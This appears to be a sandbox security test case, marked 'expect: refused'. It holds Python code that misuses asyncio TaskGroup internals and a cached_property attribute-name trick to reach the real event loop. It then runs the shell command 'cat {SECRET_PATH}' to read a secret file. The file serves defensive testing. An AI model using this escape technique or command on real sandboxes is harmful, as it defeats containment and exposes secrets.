# category: own-names
# signal: secret
# expect: refused
# tripwire: stops open
# source: a cached_property bound in a class body under the reserved name _loop takes attrname "_loop"; placed on a second class under a public name it reads instance.__dict__["_loop"] natively, where the real TaskGroup's __aenter__, run on a program object, stored the real loop
import asyncio
import functools
class Holder:
    pass
holder = Holder()
asyncio.TaskGroup.__init__(holder)
inner = getattr(holder, "_ProgramTaskGroup__group", None)
RealGroup = type(inner) if inner is not None else asyncio.TaskGroup
peek = functools.cached_property(lambda self: None)
class Namer:
    _loop = peek
class Target:
    pass
Target.loop_handle = peek
target = Target()
RealGroup.__init__(target)
await RealGroup.__aenter__(target)
loop = target.loop_handle
class Reader:
    def __init__(self):
        self.done = asyncio.Event()
        self.output = []
    def connection_made(self, transport):
        pass
    def pipe_data_received(self, fd, data):
        self.output.append(data)
    def pipe_connection_lost(self, fd, exc):
        pass
    def process_exited(self):
        self.done.set()
    def connection_lost(self, exc):
        pass
reader = Reader()
transport, _ = await loop.subprocess_shell(lambda: reader, "cat {SECRET_PATH}")
await reader.done.wait()
await asyncio.sleep(0.1)
transport.close()
return b"".join(reader.output).decode()
